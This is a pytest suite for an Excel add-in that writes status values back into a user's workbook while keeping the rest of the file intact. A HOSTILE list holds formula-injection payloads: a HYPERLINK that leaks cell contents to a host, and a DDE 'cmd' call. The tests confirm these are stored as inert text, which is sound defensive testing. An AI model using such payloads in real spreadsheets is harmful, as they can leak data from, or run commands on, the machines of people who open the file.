"""Status write-back: values land, everything else of the user's file is kept.

Over 500 lines: one test per thing of the user's file the write-back must keep, side by side.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.drawing.image import Image
from openpyxl.styles import Font, PatternFill
from PIL import Image as PILImage

from addin.errors import UnsupportedFormat, WorkbookError
from addin.excel.template import write_template
from addin.excel.write_text import text_for_xlsx
from addin.excel.writeback import CellWrite, patch_workbook, write_back

TODAY = dt.date(2026, 11, 25)
HOSTILE = [
    '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


# -- helpers -------------------------------------------------------------------------------
def _members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {name: z.read(name) for name in z.namelist()}


def _repack(data: bytes, *, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for name in src.namelist():
            dst.writestr(name, (replace or {}).get(name, src.read(name)))
        for name, content in (add or {}).items():
            dst.writestr(name, content)
    return out.getvalue()


def _open(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def _png() -> bytes:
    buffer = io.BytesIO()
    PILImage.new("RGB", (8, 8), (200, 30, 30)).save(buffer, format="PNG")
    return buffer.getvalue()


@pytest.fixture(scope="module")
def foreign() -> bytes:
    """A manager's own workbook: chart, image, comment, merged cells, formulas, styles, two sheets."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "My KRs"
    ws["A1"] = "Q4 plan"
    ws.merge_cells("A1:E1")
    ws.append(["Team", "Key result", "Start", "Goal", "Actual"])
    for cell in ws[2]:
        cell.font = Font(bold=True, italic=True)
    for i in range(5):
        ws.append([f"Team {i}", f"KR {i}", 10, 20, 12 + i])
    ws["F3"] = "=E3/D3"
    ws["B3"].font = Font(bold=True, color="FF0000")
    ws["E4"].fill = PatternFill("solid", fgColor="FFFF00")
    ws["B4"].comment = Comment("Check with finance", "Ana")
    chart = BarChart()
    chart.add_data(Reference(ws, min_col=5, min_row=2, max_row=7), titles_from_data=True)
    ws.add_chart(chart, "H2")
    ws.add_image(Image(io.BytesIO(_png())), "H20")
    other = wb.create_sheet("Budget")
    other["A1"] = "Total"
    other["B1"] = "=SUM('My KRs'!E3:E7)"
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def _foreign_writes() -> tuple[list[CellWrite], list[CellWrite]]:
    headers = [
        CellWrite("My KRs", 2, 7 + i, name, "text")
        for i, name in enumerate(("ID", "Progress", "Status", "Last check-in", "Flags"))
    ]
    cells = []
    for row in range(3, 8):
        cells += [
            CellWrite("My KRs", row, 7, f"KR-{row:04d}", "text"),
            CellWrite("My KRs", row, 8, 0.25 * (row - 3), "percent"),
            CellWrite("My KRs", row, 9, "on-track", "text"),
            CellWrite("My KRs", row, 10, dt.date(2026, 11, row), "date"),
            CellWrite("My KRs", row, 11, HOSTILE[row - 3], "text"),
        ]
    return cells, headers


# -- the user's file is kept ------------------------------------------------------------------
def test_foreign_workbook_keeps_chart_image_comment_merges_formulas_and_styles(foreign):
    cells, headers = _foreign_writes()
    result = patch_workbook(foreign, cells=cells, header_cells=headers)
    before, after = _members(foreign), _members(result.data)
    changed = {name for name in before if before[name] != after.get(name)}
    # Only the written sheet (and styles, for the percent/date variants) differ.
    assert changed <= {"xl/worksheets/sheet1.xml", "xl/styles.xml"}
    assert "xl/worksheets/sheet1.xml" in changed
    assert set(after) == set(before)
    assert any(n.startswith("xl/charts/") for n in after) and any(n.startswith("xl/media/") for n in after)

    wb = _open(result.data)
    ws = wb["My KRs"]
    assert "A1:E1" in {str(r) for r in ws.merged_cells.ranges}
    assert ws["F3"].value == "=E3/D3" and ws["F3"].data_type == "f"
    assert wb["Budget"]["B1"].value == "=SUM('My KRs'!E3:E7)"
    assert ws["B3"].font.bold and ws["B3"].font.color.rgb.endswith("FF0000")
    assert ws["E4"].fill.fgColor.rgb.endswith("FFFF00")
    assert ws["B4"].comment.text == "Check with finance"


def test_values_land_in_the_right_cells_with_number_formats(foreign):
    cells, headers = _foreign_writes()
    ws = _open(write_back(foreign, cells=cells, header_cells=headers))["My KRs"]
    assert [ws.cell(2, c).value for c in range(7, 12)] == ["ID", "Progress", "Status", "Last check-in", "Flags"]
    assert ws["G4"].value == "KR-0004" and ws["I4"].value == "on-track"
    assert ws["H5"].value == 0.5 and "%" in ws["H5"].number_format
    assert ws["J6"].value == dt.datetime(2026, 11, 6) and ws["J6"].is_date
    # Cells next to the written ones are untouched.
    assert [ws.cell(4, c).value for c in range(1, 6)] == ["Team 1", "KR 1", 10, 20, 13]
    # A new header borrows the header row's style, not a data style.
    assert ws["G2"].font.b and ws["G2"].font.i
    assert not ws["G3"].font.b


def test_formula_looking_text_is_written_as_text(foreign):
    cells, headers = _foreign_writes()
    ws = _open(write_back(foreign, cells=cells, header_cells=headers))["My KRs"]
    written = [ws.cell(row, 11) for row in range(3, 8)]
    assert [c.value for c in written] == HOSTILE[:5]
    assert all(c.data_type == "s" for c in written)
    for row in ws.iter_rows():
        for cell in row:
            if cell.data_type == "f":
                assert cell.coordinate == "F3"


def test_every_hostile_leading_character_stays_a_string_cell():
    data = write_template(today=TODAY)
    cells = [CellWrite("OKRs", 2 + i, 20, text, "auto") for i, text in enumerate(HOSTILE)]
    wb = _open(write_back(data, cells=cells))
    got = [wb["OKRs"].cell(2 + i, 20) for i in range(len(HOSTILE))]
    assert [c.data_type for c in got] == ["s"] * len(HOSTILE)
    assert [c.value for c in got] == HOSTILE


def test_a_cell_holding_a_formula_is_not_overwritten(foreign):
    result = patch_workbook(foreign, cells=[CellWrite("My KRs", 3, 6, "replaced")])
    assert result.kept_formulas == ["'My KRs'!F3"]
    assert _open(result.data)["My KRs"]["F3"].value == "=E3/D3"


def test_template_write_back_uses_column_formats_and_updates_dimension():
    data = write_template(sample=True, today=TODAY)
    cells = [
        CellWrite("OKRs", 2, 17, 0.42, "percent"),
        CellWrite("OKRs", 2, 19, dt.date(2026, 11, 20), "date"),
        CellWrite("OKRs", 30, 16, "KR-NEW", "text"),
    ]
    out = write_back(data, cells=cells)
    ws = _open(out)["OKRs"]
    assert ws["Q2"].value == 0.42 and ws["Q2"].number_format == "0%"
    assert ws["S2"].number_format == "yyyy-mm-dd"
    assert ws["P30"].value == "KR-NEW"
    sheet = _members(out)["xl/worksheets/sheet1.xml"].decode()
    assert '<dimension ref="A1:T30"/>' in sheet
    assert sheet.count("<sheetData>") == 1 and 'r="30"' in sheet


# -- check-ins and tables ---------------------------------------------------------------------
def test_appended_check_ins_go_after_the_last_row_and_extend_the_table():
    data = write_template(sample=True, today=TODAY)
    shown = int(_open(data)["Check-ins"].tables["CheckIns"].ref.split(":")[1][1:])
    rows = [[dt.date(2026, 11, 24), "KR-0001", "Increase activation", 40, 0.7, "note", "outlook"]] * 3
    out = write_back(data, cells=[], append_rows={"Check-ins": rows})
    ws = _open(out)["Check-ins"]
    assert ws.tables["CheckIns"].ref == f"A1:G{shown + 3}"
    assert [c.value for c in ws[shown + 1]][1:] == rows[0][1:]
    assert ws.cell(shown + 1, 1).is_date
    assert ws.cell(shown + 4, 2).value is None
    assert re.search(rb'<autoFilter ref="A1:G%d"' % (shown + 3), _members(out)["xl/tables/table3.xml"])


def test_appending_to_an_empty_template_table_fills_its_empty_row():
    data = write_template(today=TODAY)
    out = write_back(
        data, cells=[], append_rows={"Check-ins": [[dt.date(2026, 11, 24), "KR-1", "x", 1, 0.5, "", "cli"]]}
    )
    ws = _open(out)["Check-ins"]
    assert ws.tables["CheckIns"].ref == "A1:G2"
    assert ws["B2"].value == "KR-1"


def test_a_missing_check_ins_sheet_is_created_with_its_header(foreign):
    header = ["Date", "KR ID", "Key Result", "Value", "Confidence", "Note", "Source"]
    out = write_back(
        foreign, cells=[], append_rows={"Check-ins": [header, [dt.date(2026, 11, 1), "KR-9", "t", 3, None, "", "api"]]}
    )
    wb = _open(out)
    assert wb.sheetnames == ["My KRs", "Budget", "Check-ins"]
    assert [c.value for c in wb["Check-ins"][1]] == header
    assert wb["Check-ins"]["B2"].value == "KR-9" and wb["Check-ins"]["A2"].is_date


def test_appended_rows_skip_trailing_styled_empty_rows():
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Check-ins"
    ws.append(["Date", "KR ID"])
    ws.append(["2026-11-01", "KR-1"])
    for row in range(3, 50):
        ws.cell(row, 1).fill = PatternFill("solid", fgColor="DDDDDD")
    buffer = io.BytesIO()
    wb.save(buffer)
    out = _open(write_back(buffer.getvalue(), cells=[], append_rows={"Check-ins": [["2026-11-02", "KR-2"]]}))
    assert out["Check-ins"]["B3"].value == "KR-2"
    assert out["Check-ins"]["A3"].fill.fgColor.rgb.endswith("DDDDDD")


# -- what is never re-emitted ---------------------------------------------------------------------
def _macro_workbook(base: bytes) -> bytes:
    parts = _members(base)
    types = (
        parts["[Content_Types].xml"]
        .decode()
        .replace(
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        )
        .replace("</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    )
    rels = (
        parts["xl/_rels/workbook.xml.rels"]
        .decode()
        .replace(
            "</Relationships>",
            '<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
            'Target="vbaProject.bin"/></Relationships>',
        )
    )
    return _repack(
        base,
        replace={"[Content_Types].xml": types.encode(), "xl/_rels/workbook.xml.rels": rels.encode()},
        add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 fake VBA"},
    )


def test_vba_is_dropped_and_the_workbook_becomes_plain_xlsx(foreign):
    out = write_back(_macro_workbook(foreign), cells=[CellWrite("My KRs", 3, 7, "KR-1")])
    parts = _members(out)
    assert "xl/vbaProject.bin" not in parts
    assert b"vbaProject" not in parts["[Content_Types].xml"] and b"macroEnabled" not in parts["[Content_Types].xml"]
    assert b"vbaProject" not in parts["xl/_rels/workbook.xml.rels"]
    assert _open(out)["My KRs"]["G3"].value == "KR-1"


def _external_link_workbook(base: bytes) -> bytes:
    parts = _members(base)
    types = (
        parts["[Content_Types].xml"]
        .decode()
        .replace(
            "</Types>",
            '<Override PartName="/xl/externalLinks/externalLink1.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'
            '<Override PartName="/xl/calcChain.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.calcChain+xml"/></Types>',
        )
    )
    rels = (
        parts["xl/_rels/workbook.xml.rels"]
        .decode()
        .replace(
            "</Relationships>",
            '<Relationship Id="rId90" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'externalLink" Target="externalLinks/externalLink1.xml"/>'
            '<Relationship Id="rId91" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'calcChain" Target="calcChain.xml"/></Relationships>',
        )
    )
    workbook = parts["xl/workbook.xml"].decode()
    workbook = re.sub(
        r"(</sheets>)",
        r'\1<externalReferences><externalReference xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        r'relationships" r:id="rId90"/></externalReferences>'
        r'<definedNames><definedName name="Remote">[1]Data!$A$1</definedName>'
        r"<definedName name='Local'>'My KRs'!$A$3</definedName></definedNames>",
        workbook,
    )
    sheet = (
        parts["xl/worksheets/sheet2.xml"]
        .decode()
        .replace("</sheetData>", '<row r="5"><c r="A5"><f>[1]Data!A1*2</f><v>84</v></c></row></sheetData>')
    )
    link = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink xmlns="http://schemas.'
        b'openxmlformats.org/spreadsheetml/2006/main"><externalBook xmlns:r="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships" r:id="rId1"/></externalLink>'
    )
    link_rels = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/'
        b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/externalLinkPath" Target="file:///C:/secret/other.xlsx" '
        b'TargetMode="External"/></Relationships>'
    )
    calc = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<calcChain xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main"><c r="A5" i="2"/></calcChain>'
    )
    return _repack(
        base,
        replace={
            "[Content_Types].xml": types.encode(),
            "xl/_rels/workbook.xml.rels": rels.encode(),
            "xl/workbook.xml": workbook.encode(),
            "xl/worksheets/sheet2.xml": sheet.encode(),
        },
        add={
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels,
            "xl/calcChain.xml": calc,
        },
    )


def test_external_links_are_dropped_and_their_formulas_keep_the_cached_value(foreign):
    source = _external_link_workbook(foreign)
    result = patch_workbook(source, cells=[CellWrite("My KRs", 3, 7, "KR-1")])
    parts = _members(result.data)
    assert not [n for n in parts if "externalLink" in n or n == "xl/calcChain.xml"]
    assert b"externalReference" not in parts["xl/workbook.xml"] and b"[1]" not in parts["xl/workbook.xml"]
    assert b"Local" in parts["xl/workbook.xml"]
    assert b"file:///" not in b"".join(parts.values())
    assert result.frozen_formulas == 1
    wb = _open(result.data)
    assert wb["Budget"]["A5"].value == 84 and wb["Budget"]["B1"].data_type == "f"


def test_macro_sheets_are_refused(foreign):
    parts = _members(foreign)
    types = (
        parts["[Content_Types].xml"]
        .decode()
        .replace(
            "</Types>",
            '<Override PartName="/xl/macrosheets/sheet1.xml" '
            'ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>',
        )
    )
    data = _repack(foreign, replace={"[Content_Types].xml": types.encode()}, add={"xl/macrosheets/sheet1.xml": b"<x/>"})
    with pytest.raises(UnsupportedFormat) as err:
        write_back(data, cells=[])
    assert err.value.code == "macro_sheets"


def test_not_a_zip_and_unknown_sheet_are_clear_errors(foreign):
    with pytest.raises(WorkbookError) as err:
        write_back(b"Team,KR\nA,B\n", cells=[])
    assert err.value.code == "corrupt_workbook"
    with pytest.raises(WorkbookError) as err:
        write_back(foreign, cells=[CellWrite("Nope", 1, 1, "x")])
    assert err.value.code == "no_such_sheet" and err.value.details["sheet"] == "Nope"


def test_a_dtd_in_a_sheet_is_refused(foreign):
    sheet = b'<!DOCTYPE x [<!ENTITY a "aaaa">]>' + _members(foreign)["xl/worksheets/sheet1.xml"]
    with pytest.raises(WorkbookError) as err:
        write_back(
            _repack(foreign, replace={"xl/worksheets/sheet1.xml": sheet}), cells=[CellWrite("My KRs", 3, 7, "x")]
        )
    assert err.value.code == "dtd_not_allowed"


# -- the workbook id ---------------------------------------------------------------------------------
def test_workbook_id_round_trips_and_is_updated_in_place(foreign):
    once = write_back(foreign, cells=[], workbook_id="wb-1")
    assert _open(once).custom_doc_props["OKRCadenceWorkbookId"].value == "wb-1"
    twice = write_back(once, cells=[], workbook_id="wb-2")
    props = _open(twice).custom_doc_props
    assert [p.name for p in props] == ["OKRCadenceWorkbookId"] and props["OKRCadenceWorkbookId"].value == "wb-2"
    assert _members(twice)["xl/worksheets/sheet1.xml"] == _members(foreign)["xl/worksheets/sheet1.xml"]


# -- hostile text ---------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("bad\x00null\x01\x08\x0b\x0c\x1f end", "badnull end"),
        ("lone \ud800 surrogate \ufffe\uffff", "lone  surrogate "),
        ("keep\ttab\nnewline\rcr", "keep\ttab\nnewline\rcr"),
        ("مرحبا بالعالم \u202eRTL", "مرحبا بالعالم \u202eRTL"),
        ("👩‍👩‍👧 🇪🇸 emoji", "👩‍👩‍👧 🇪🇸 emoji"),
        ("  leading and trailing  ", "  leading and trailing  "),
    ],
)
def test_hostile_text_is_written_by_the_documented_rule(text, expected):
    out = write_back(write_template(today=TODAY), cells=[CellWrite("OKRs", 2, 20, text, "text")])
    cell = _open(out)["OKRs"]["T2"]
    assert cell.value == expected and cell.data_type == "s"


def test_texts_sharing_a_row_each_follow_the_rule_on_their_own():
    """Texts are checked a row at a time: one text needing work must not change its neighbours."""
    texts = ["plain", "a<b & c>d", "bad\x01ctl", "a_x0041_b", "  padded  ", "two\nlines", "cr\rkept", "plain again"]
    expected = [
        "plain",
        "a<b & c>d",
        "badctl",
        "a_x005F_x0041_b",
        "  padded  ",
        "two\nlines",
        "cr\rkept",
        "plain again",
    ]
    cells = [CellWrite("OKRs", 2, 13 + i, text, "text") for i, text in enumerate(texts)]
    out = _open(
        write_back(write_template(today=TODAY), cells=cells, append_rows={"Notes": [texts, ["x" * 40_000, "ok"]]})
    )
    assert [c.value for c in out["OKRs"][2][12:20]] == expected
    notes = out["Notes"]
    assert [c.value for c in notes[1]] == expected
    assert [c.value for c in notes[2]][:2] == ["x" * 32_767, "ok"]


def test_appended_values_of_every_type_read_back_as_written():
    class Label(str):
        pass

    aware = dt.datetime(2026, 11, 20, 10, 30, tzinfo=dt.timezone(dt.timedelta(hours=2)))
    row = [7, -0.5, 2.0, 1e20, Decimal("1.25"), True, TODAY, aware, None, Label("sub"), "", 3]
    out = _open(write_back(write_template(today=TODAY), cells=[], append_rows={"Typed": [row]}))["Typed"]
    values = [c.value for c in out[1]]
    assert values[:6] == [7, -0.5, 2, 1e20, 1.25, True]
    assert values[6] == dt.datetime(2026, 11, 25)  # openpyxl reads every date cell as a datetime
    assert values[7] == dt.datetime(2026, 11, 20, 8, 30)  # aware: stored as UTC wall time
    assert values[8] is None and values[9] == "sub" and values[11] == 3


def test_cell_limit_is_32767_utf16_units_and_never_splits_an_emoji():
    exact = "x" * 32_767
    long = "é" * 40_000
    emoji = "a" + "😀" * 16_400
    out = _open(
        write_back(
            write_template(today=TODAY),
            cells=[CellWrite("OKRs", 2, 20, exact), CellWrite("OKRs", 3, 20, long), CellWrite("OKRs", 4, 20, emoji)],
        )
    )
    ws = out["OKRs"]
    assert ws["T2"].value == exact
    assert ws["T3"].value == "é" * 32_767
    assert ws["T4"].value == "a" + "😀" * 16_383 and len(ws["T4"].value.encode("utf-16-le")) // 2 == 32_767


def test_excel_escape_lookalikes_are_protected():
    assert text_for_xlsx("a_x0041_b") == "a_x005F_x0041_b"
    assert text_for_xlsx("plain_x_text") == "plain_x_text"


def test_nan_is_refused_with_the_value_named():
    with pytest.raises(ValueError, match="nan"):
        write_back(write_template(today=TODAY), cells=[CellWrite("OKRs", 2, 17, float("nan"), "percent")])


def test_many_rows_stream_through_in_order():
    """More rows than one output buffer holds: order, count and values survive."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "OKRs"
    ws.append(["Key Result", "ID"])
    for i in range(4_500):
        ws.append([f"KR {i}"])
    buffer = io.BytesIO()
    wb.save(buffer)
    cells = [CellWrite("OKRs", r, 2, f"KR-{r}", "text") for r in range(2, 4_502, 2)]
    out = _open(write_back(buffer.getvalue(), cells=cells))["OKRs"]
    assert out.max_row == 4_501
    assert out["B2"].value == "KR-2" and out["B3"].value is None and out["B4500"].value == "KR-4500"
    assert out["A4501"].value == "KR 4499"


def test_syncing_twice_replaces_the_values_instead_of_adding_cells():
    data = write_template(sample=True, today=TODAY)
    first = write_back(
        data, cells=[CellWrite("OKRs", 2, 18, "at-risk", "text"), CellWrite("OKRs", 2, 17, 0.3, "percent")]
    )
    second = write_back(
        first, cells=[CellWrite("OKRs", 2, 18, "done", "text"), CellWrite("OKRs", 2, 17, None, "percent")]
    )
    sheet = _members(second)["xl/worksheets/sheet1.xml"].decode()
    assert sheet.count('r="R2"') == 1 and sheet.count('r="Q2"') <= 1
    ws = _open(second)["OKRs"]
    assert ws["R2"].value == "done" and ws["Q2"].value is None
    assert ws["Q2"].number_format == "0%"  # an emptied cell keeps its formatting


def test_prefixed_namespace_and_cells_without_references_are_handled(foreign):
    sheet = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<x:dimension ref="A1:B2"/><x:sheetData>'
        b'<x:row><x:c t="inlineStr"><x:is><x:t>Key Result</x:t></x:is></x:c><x:c t="inlineStr"><x:is><x:t>ID</x:t>'
        b'</x:is></x:c></x:row><x:row><x:c t="inlineStr"><x:is><x:t>Grow</x:t></x:is></x:c><x:c/><x:c><x:v>5</x:v>'
        b"</x:c></x:row></x:sheetData></x:worksheet>"
    )
    data = _repack(foreign, replace={"xl/worksheets/sheet2.xml": sheet})
    out = write_back(
        data,
        cells=[
            CellWrite("Budget", 2, 2, "KR-1", "text"),
            CellWrite("Budget", 2, 5, "=x", "text"),
            CellWrite("Budget", 4, 1, 7, "number"),
        ],
    )
    ws = _open(out)["Budget"]
    assert [c.value for c in ws[2]] == ["Grow", "KR-1", 5, None, "=x"]
    assert ws["E2"].data_type == "s" and ws["A4"].value == 7
    assert b'<x:dimension ref="A1:E4"/>' in _members(out)["xl/worksheets/sheet2.xml"]


@pytest.mark.parametrize("keep_rel", [True, False])
def test_a_workbook_without_styles_gets_one_for_dates_and_percent(keep_rel):
    wb = openpyxl.Workbook()
    wb.active.title = "OKRs"
    wb.active["A1"] = "Due"
    buffer = io.BytesIO()
    wb.save(buffer)
    parts = _members(buffer.getvalue())
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for name, content in parts.items():
            if name == "xl/styles.xml":
                continue
            if name == "xl/_rels/workbook.xml.rels" and not keep_rel:
                content = re.sub(rb'<Relationship[^>]*styles"[^>]*/>', b"", content)
            if name == "[Content_Types].xml":
                content = re.sub(rb'<Override PartName="/xl/styles.xml"[^>]*/>', b"", content)
            dst.writestr(name, re.sub(rb' s="\d+"', b"", content) if name.startswith("xl/worksheets") else content)
    result = write_back(
        out.getvalue(),
        cells=[CellWrite("OKRs", 2, 1, dt.date(2026, 1, 1), "date"), CellWrite("OKRs", 2, 2, 0.5, "percent")],
    )
    ws = _open(result)["OKRs"]
    assert ws["A2"].is_date and ws["B2"].number_format == "0%"


# -- the byte-level fast path agrees with the lxml path ----------------------------------------
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_ROWS = (
    '<row r="1" spans="1:2"><c r="A1" t="inlineStr"><is><t>Head</t></is></c><c r="B1" s="1"><v>1</v></c></row>'
    '<row r="2" spans="1:2" x14ac:dyDescent="0.25"><c r="A2" s="1"><v>2</v></c><c r="B2"><v>3</v></c></row>'
    '<row r="3" spans="1:1" foo="x&gt;y"><c r="A3"><v>2</v></c></row>'
    '<row r="4"><c r="A4" t="inlineStr"><is><r><rPr><color rgb="FFFF0000"/></rPr><t>rich</t></r></is></c>'
    '<c r="C4" s="1"><f>A3+1</f><v>3</v></c></row>'
    '<row r="5" s="1" customFormat="1"/>'
    '<row r="6"><c t="inlineStr"><is><t>no ref</t></is></c><c><v>5</v></c></row>'
    '<row r="7"><c r="A7"><v>1</v></c><c r="E7" s="1"><v>9</v></c></row>\n  '
    '<row r="8" spans="1:4"><c r="A8" s="1"><v>1</v></c><c r="B8" s="1" t="inlineStr"><is><t>old</t></is></c>'
    '<c r="C8" s="1"><v>7</v></c><c r="D8"><v>8</v></c></row>'
    "<row r='9' ht='20' customHeight='1'><c r='A9' s='1'><v>4</v></c></row>"
    '<row r="10" note="a>b"><c r="A10" s="1" note="c>d"><v>4</v></c></row>'
    '<row r="12"><c r="A12"><v>1</v></c><extLst><ext uri="{X}"/></extLst></row>'
)


def _sheet_variant(extra: str = "") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<worksheet xmlns="{_MAIN}" xmlns:x14ac="http://schemas.microsoft.com/office/spreadsheetml/2009/9/ac">'
        '<dimension ref="A1:E12"/><cols><col min="4" max="4" width="9" style="1"/></cols>'
        f'<sheetData>{extra}{_ROWS}</sheetData><pageMargins left="0.7" right="0.7" top="0.75" '
        'bottom="0.75" header="0.3" footer="0.3"/></worksheet>'
    ).encode()


@pytest.mark.parametrize("extra", ["", "<!-- a comment forces the lxml path -->"])
def test_the_byte_level_path_writes_what_the_lxml_path_writes(monkeypatch, extra):
    from lxml import etree

    from addin.excel import write_sheet

    base = write_template(today=TODAY)
    data = _repack(base, replace={"xl/worksheets/sheet1.xml": _sheet_variant(extra)})
    cells = [
        CellWrite("OKRs", r, c, v, k)
        for r in range(2, 13)
        for c, v, k in ((2, f"t{r} <&>", "text"), (3, r / 10, "percent"), (4, TODAY, "date"))
    ]
    cells.append(CellWrite("OKRs", 8, 2, None, "text"))  # an emptied cell keeps its style
    header = [CellWrite("OKRs", 1, 3, "Header", "text")]
    rows = {"OKRs": [["appended", 1.5, TODAY]]}

    def run() -> dict[str, bytes]:
        result = patch_workbook(data, cells=cells, header_cells=header, append_rows=rows)
        members = _members(result.data)
        return {
            name: etree.tostring(etree.fromstring(body), method="c14n") if name.endswith(".xml") else body
            for name, body in members.items()
        } | {"kept": repr(result.kept_formulas).encode()}

    fast = run()
    monkeypatch.setattr(write_sheet, "split_sheet", lambda data, part: None)
    slow = run()
    assert fast == slow
    assert b"OKRs!C4" in fast["kept"]


@pytest.mark.parametrize(
    ("old", "new"),
    [(b'</row><row r="2"', b'</row><row r="2"><c>'), (b'<c r="A2" s="1">', b'<c r="A2" s="1" y:z="1">')],
    ids=["unclosed", "unbound-prefix"],
)
def test_a_broken_sheet_is_a_clear_error_on_the_fast_path(old, new):
    broken = _sheet_variant().replace(old, new, 1)
    assert broken != _sheet_variant()
    data = _repack(write_template(today=TODAY), replace={"xl/worksheets/sheet1.xml": broken})
    with pytest.raises(WorkbookError) as caught:
        write_back(data, cells=[CellWrite("OKRs", 2, 3, "x", "text")])
    assert caught.value.code == "corrupt_workbook"
